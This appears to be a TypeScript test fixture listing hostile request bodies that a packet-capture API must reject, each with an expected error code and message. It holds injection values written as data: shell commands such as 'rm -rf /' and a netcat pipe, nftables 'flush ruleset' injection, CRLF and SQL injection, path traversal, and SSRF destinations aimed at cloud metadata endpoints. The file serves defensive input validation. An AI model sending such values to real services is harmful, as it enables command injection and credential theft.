// Requests for captures that somebody may send and that must reach neither a job nor an agent: each with its code, and what the
// message has to say.

export interface HostileCapture {
  readonly name: string
  /** What differs from a simple capture that is in order; undefined removes a field. */
  readonly body: Readonly<Record<string, unknown>>
  readonly code: number
  readonly reason: string
}

const invalid = 20_021
const filterInvalid = 20_026
const bucketInvalid = 20_028
const bucketUnproven = 20_029

const shell = ['; rm -rf /', '$(reboot)', '`id`', '| nc 192.0.2.1 1', '&& true', '> /etc/passwd', "' or 1=1 --", '\r\nX-Evil: 1', '\u0000']

/** Each of them where text in the filter language is expected. */
const filterTexts = [
  ...shell.flatMap((text) => [`udp ${text}`, text]),
  'add table inet evil',
  'udp } ; flush ruleset ; table inet x {',
  'dst 203.0.113.7 accept',
  'goto drawbridge',
  'jump input',
  'counter',
  'log group 1',
  'udp\\',
  '-w /tmp/x',
  'host example.com',
  'dst 203.0.113.7/33',
  'dst 2001:db8::/129',
  'dst 999.1.1.1',
  'dst 0x7f.1',
  'dst fe80::1%eth0',
  'src port 65536',
  'src port -1',
  'src port 99999999999999999999999999',
  'src port 1e3',
  'proto 256',
  'len > 18446744073709551616',
  'flags nonsense',
  'udp and',
  'and udp',
  '((udp)',
  'udp)',
  '“udp”',
  'uԁp',
  'udp\u202e',
  '\u{1f4a3}',
  '('.repeat(2000),
  '!'.repeat(4000),
  `dst in {${'203.0.113.7,'.repeat(400)}}`,
  'x'.repeat(5000),
]

const named = (text: string) => JSON.stringify(text).slice(0, 60)

const filters: readonly HostileCapture[] = filterTexts.map((filter) => {
  return { name: `the filter ${named(filter)}`, body: { filter }, code: filterInvalid, reason: 'Invalid filter: ' }
})

const places = [
  'ord02;reboot',
  '$(id)',
  '../../etc',
  'ord 02',
  'ord02\n',
  'ord02\u0000',
  'örd02',
  '-all',
  'ord02,',
  ',ord02',
  '**',
  'ord-02',
  'o',
  'ord00000',
  'a'.repeat(2000),
]
const colos: readonly HostileCapture[] = places.flatMap((colo) => [
  { name: `the colo_name ${named(colo)}`, body: { colo_name: colo }, code: invalid, reason: 'colo_name must ' },
  { name: `the colo ${named(colo)}`, body: { colo }, code: invalid, reason: 'colo must ' },
])

const interfaces = ['eth0;reboot', '../eth0', 'eth0 ', '$(id)', 'eth0\u0000', 'eth0/1', 'a'.repeat(16), '', 'eth"0', '\u{1f4a3}']
const devices: readonly HostileCapture[] = interfaces.map((name) => {
  return {
    name: `the interface ${named(name)}`,
    body: { drawbridge: { engine: 'interface', interface: name } },
    code: invalid,
    reason: 'drawbridge.interface ',
  }
})

const addresses = [
  '1.2.3.4; reboot',
  '1.2.3',
  '::g',
  '1.2.3.4/33',
  '',
  ' 1.2.3.4',
  '1.2.3.4\u0000',
  'fe80::1%eth0',
  '0x7f.0.0.1',
  '01.2.3.4',
  '$(id)',
  'example.com',
]
const originals: readonly HostileCapture[] = [
  ...addresses.map((address) => ({
    name: `the source address ${named(address)}`,
    body: { filter_v1: { source_address: address } },
    code: invalid,
    reason: 'filter_v1.source_address must be an address',
  })),
  ...[-1, 65_536, 1.5, 1e300, '80', null, [80], true].map((port) => ({
    name: `the destination port ${JSON.stringify(port)}`,
    body: { filter_v1: { destination_port: port } },
    code: invalid,
    reason: 'filter_v1.destination_port must be a whole number from 0 to 65535',
  })),
  { name: 'a protocol of 256', body: { filter_v1: { protocol: 256 } }, code: invalid, reason: 'filter_v1.protocol must be a whole number' },
  { name: 'a mistyped field of the filter', body: { filter_v1: { src: '1.2.3.4' } }, code: invalid, reason: 'there is no field src' },
  { name: 'a list for a filter', body: { filter_v1: [] }, code: invalid, reason: 'filter_v1 must be a JSON object' },
  {
    name: 'a prototype for a filter',
    body: { filter_v1: JSON.parse('{"__proto__":{"x":1}}') },
    code: invalid,
    reason: 'there is no field',
  },
]

const numbers: readonly HostileCapture[] = [0, -1, 301, 1e308, 0.5, '60', null, [], {}].map((time_limit) => {
  return {
    name: `a time limit of ${JSON.stringify(time_limit)}`,
    body: { time_limit },
    code: invalid,
    reason: 'time_limit must be a whole number from 1 to',
  }
})
const limits: readonly HostileCapture[] = [
  ...numbers,
  ...[0, -5, 10_001, 2 ** 53, '10', {}].map((packet_limit) => ({
    name: `a packet limit of ${JSON.stringify(packet_limit)}`,
    body: { packet_limit },
    code: invalid,
    reason: 'packet_limit must be a whole number from 1 to',
  })),
  { name: 'no packet limit', body: { packet_limit: undefined }, code: invalid, reason: 'packet_limit must be given' },
  {
    name: 'more packets than ours takes',
    body: { packet_limit: 10_000_001, drawbridge: {} },
    code: invalid,
    reason: 'packet_limit must be',
  },
  { name: 'a byte limit of 1e12 in the original’s form', body: { byte_limit: 1e12 }, code: invalid, reason: 'byte_limit must be' },
  { name: 'a byte limit above 1e12', body: { byte_limit: 1e12 + 1, drawbridge: {} }, code: invalid, reason: 'byte_limit must be' },
  { name: 'sampling 1 in 0', body: { drawbridge: { sampling: 0 } }, code: invalid, reason: 'drawbridge.sampling must be' },
  { name: 'sampling 1 in 2^32', body: { drawbridge: { sampling: 2 ** 32 } }, code: invalid, reason: 'drawbridge.sampling must be' },
  { name: 'a snap length of 19', body: { drawbridge: { snap_length: 19 } }, code: invalid, reason: 'drawbridge.snap_length must be' },
  {
    name: 'a snap length of 65536',
    body: { drawbridge: { snap_length: 65_536 } },
    code: invalid,
    reason: 'drawbridge.snap_length must be',
  },
]

const others: readonly HostileCapture[] = [
  { name: 'another system', body: { system: 'magic-transit; reboot' }, code: invalid, reason: 'system must be "magic-transit"' },
  { name: 'no system', body: { system: undefined }, code: invalid, reason: 'system must be "magic-transit"' },
  { name: 'another type', body: { type: 'both' }, code: invalid, reason: 'type must be one of simple, full' },
  { name: 'an empty filter', body: { filter: ' ' }, code: filterInvalid, reason: 'the filter is empty' },
  { name: 'a number for a filter', body: { filter: 1 }, code: invalid, reason: 'filter must be text' },
  {
    name: 'a hook that is none',
    body: { drawbridge: { hook: 'prerouting; drop' } },
    code: invalid,
    reason: 'drawbridge.hook must be one of',
  },
  {
    name: 'an engine that is none',
    body: { drawbridge: { engine: '/bin/sh' } },
    code: invalid,
    reason: 'drawbridge.engine must be one of',
  },
  { name: 'ingress of nothing', body: { drawbridge: { hook: 'ingress' } }, code: invalid, reason: 'drawbridge.interface must name' },
  {
    name: 'a mirror port without a name',
    body: { drawbridge: { engine: 'interface' } },
    code: invalid,
    reason: 'drawbridge.interface must name',
  },
  {
    name: 'a note with an escape',
    body: { drawbridge: { note: '\u001b[2J' } },
    code: invalid,
    reason: 'drawbridge.note must not hold control',
  },
  { name: 'a mistyped setting', body: { drawbridge: { snaplen: 64 } }, code: invalid, reason: 'there is no field snaplen' },
  { name: 'a mistyped field', body: { packetlimit: 5 }, code: invalid, reason: 'there is no field packetlimit' },
  {
    name: 'two places that differ',
    body: { colo: 'ORD', colo_name: 'FRA' },
    code: invalid,
    reason: 'colo and colo_name name different places',
  },
  {
    name: 'a destination of a simple capture',
    body: { destination_conf: 's3://abc' },
    code: invalid,
    reason: 'destination_conf is for full',
  },
  { name: 'a time that is none', body: { offset_time: 'now; reboot' }, code: invalid, reason: 'offset_time must be a time' },
  { name: 'a time long ago', body: { offset_time: '1970-01-01T00:00:00Z' }, code: invalid, reason: 'offset_time must be within' },
  { name: 'a time to come', body: { offset_time: '9999-12-31T23:59:59Z' }, code: invalid, reason: 'offset_time must be within' },
]

const full = { type: 'full', colo_name: 'ORD' }
/** Destinations that are none, of full captures and of buckets that are to be added. */
export const hostileDestinations: readonly string[] = [
  '',
  'bucket',
  '${BUCKET}',
  'http://169.254.169.254/latest/meta-data',
  'file:///etc',
  'file:///etc/../root',
  'ftp://bucket/dir',
  's3:///dir',
  's3://a',
  's3://UPPER',
  's3://127.0.0.1',
  's3://bucket/../other',
  's3://bucket/./dir',
  's3://bucket//dir',
  's3://bucket/dir;reboot',
  's3://bucket/$(id)',
  's3://bucket/dir\r\nX-Evil: 1',
  's3://bucket/dir\u0000',
  's3://bucket/%2e%2e/other',
  's3://buck\u00e9t/dir',
  's3://user:HOSTILE@bucket/dir',
  's3://bucket?region=us-east-1&region=eu-west-1',
  's3://bucket?region=../..',
  's3://bucket?nonsense=1',
  's3://bucket?endpoint=http://169.254.169.254',
  's3://bucket?endpoint=http://[fd00:ec2::254]',
  's3://bucket?endpoint=http://metadata.google.internal',
  's3://bucket?endpoint=file:///etc/passwd',
  's3://bucket?endpoint=http://user:HOSTILE@store.example',
  's3://bucket?endpoint=http://2852039166',
  's3://bucket?access-key-id=HOSTILE',
  'gs://bucket?region=x',
  'r2://bucket',
  'r2://bucket?account-id=../x',
  `s3://${'a'.repeat(64)}`,
  `s3://bucket/${'d'.repeat(5000)}`,
  `s3://bucket/${'d/'.repeat(9000)}`,
]

const destinations: readonly HostileCapture[] = [
  ...hostileDestinations.map((destination_conf) => ({
    name: `the destination ${named(destination_conf)}`,
    body: { ...full, destination_conf },
    code: destination_conf.length > 16_384 ? invalid : bucketInvalid,
    reason: destination_conf.length > 16_384 ? 'destination_conf must not be longer' : 'Invalid destination: ',
  })),
  {
    name: 'a bucket that nobody has proven',
    body: { ...full, destination_conf: 's3://abc/d' },
    code: bucketUnproven,
    reason: 'add it by POST',
  },
  { name: 'a full capture to nowhere', body: full, code: invalid, reason: 'destination_conf must name a bucket' },
  {
    name: 'a full capture of the past',
    body: { ...full, offset_time: '2026-01-01T11:00:00Z' },
    code: invalid,
    reason: 'offset_time is for simple',
  },
  {
    name: 'a full capture of nowhere',
    body: { type: 'full', destination_conf: 's3://abc' },
    code: invalid,
    reason: 'colo_name must be given',
  },
  {
    name: 'a full capture for two days',
    body: { ...full, destination_conf: 's3://abc', time_limit: 86_401 },
    code: invalid,
    reason: 'time_limit must',
  },
]

export const hostileCaptures: readonly HostileCapture[] = [
  ...filters,
  ...colos,
  ...devices,
  ...originals,
  ...limits,
  ...others,
  ...destinations,
]
